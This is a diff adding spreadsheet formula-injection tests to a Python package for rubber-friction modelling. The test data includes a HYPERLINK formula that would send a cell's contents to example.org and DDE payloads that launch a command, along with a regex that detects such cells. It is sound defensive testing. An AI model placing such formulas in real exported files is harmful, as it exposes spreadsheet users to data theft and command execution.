@@ -3,9 +3,11 @@ the memory is refused.
 """
 
 import ast
+import csv
 import functools
 import json
 import os
+import re
 import socket
 import stat
 import time
@@ -14,13 +16,16 @@ from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 import numpy as np
+import openpyxl
 import pytest
+import xarray
 
 import elastomdr as em
 from elastomdr.cli.main import main
+from elastomdr.cli.sweep import _write_table
 from elastomdr.cli.units import Pressure
 from elastomdr.errors import InputError
-from elastomdr.files import read_bytes, write_files
+from elastomdr.files import csv_text, read_bytes, write_files
 from elastomdr.units.registry import to_si
 
 SOURCE = Path(em.__file__).parent
@@ -293,3 +298,51 @@ def test_nothing_that_is_read_is_run():
                     assert value is None or (
                         isinstance(value, ast.Constant) and value.value is False
                     ), path
+
+
+LIVE = '=HYPERLINK("http://example.org?"&A1,"see")'
+NAMES = [LIVE, f"a,{LIVE}", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+
+
+def cells_of(text):
+    """As a spreadsheet takes a text apart: at commas, or at semicolons."""
+    for separator in ",;\t":
+        for row in csv.reader(text.splitlines(), delimiter=separator):
+            yield from row
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_no_name_is_a_formula_in_a_table(name, tmp_path):
+    """A material's name, in every table that the package writes."""
+    rubber = em.Prony(1e6, [2e6], [1e-2], name=name)
+    others = [rubber, em.Prony(2e6, [2e6], [1e-2], name="other")]
+    curve = em.friction(others, em.Sphere(5e-3), velocity=[0.1, 1.0], load=1.0)
+    curve.to_csv(tmp_path / "curve.csv")
+    curve.ranking(velocity=1.0).to_csv(tmp_path / "ranking.csv")
+    curve.to_excel(tmp_path / "curve.xlsx")
+    alone = em.friction(rubber, em.Sphere(5e-3), velocity=[0.1, 1.0], load=1.0)
+    alone.law().to_csv(tmp_path / "law.csv")
+    (tmp_path / "plain.csv").write_text(em.fit.plain_card(rubber))
+    dataset = xarray.Dataset(
+        {"mu": ("material", [0.1, 0.2]), "converged": ("material", [True, True])},
+        {"material": [name, "other"]},
+    ).assign(state=("material", [1, 1]))
+    for end in (".csv", ".xlsx"):
+        _write_table(dataset, tmp_path / f"sweep{end}", [f"material: {name}"])
+    for path in tmp_path.glob("*.csv"):
+        for cell in cells_of(path.read_text()):
+            assert not re.match(r"\s*[=@]|\s*[+-].*[(|!]", cell), (path.name, cell)
+    for path in tmp_path.glob("*.xlsx"):
+        for sheet in openpyxl.load_workbook(path):
+            kinds = {cell.data_type for row in sheet for cell in row}
+            assert "f" not in kinds, path.name
+
+
+def test_texts_that_are_no_formulas_stay(tmp_path):
+    columns = {
+        "a": ["-", "-20 degC", "+5 %", "a=b", "x, y"],
+        "b": [1.0, -2.0, 3.0, 4.0, np.nan],
+    }
+    text = csv_text(["at -5 degC, -0.1 m/s, +3 %"], columns)
+    assert "'" not in text
+    assert "at -5 degC, -0.1 m/s, +3 %" in text
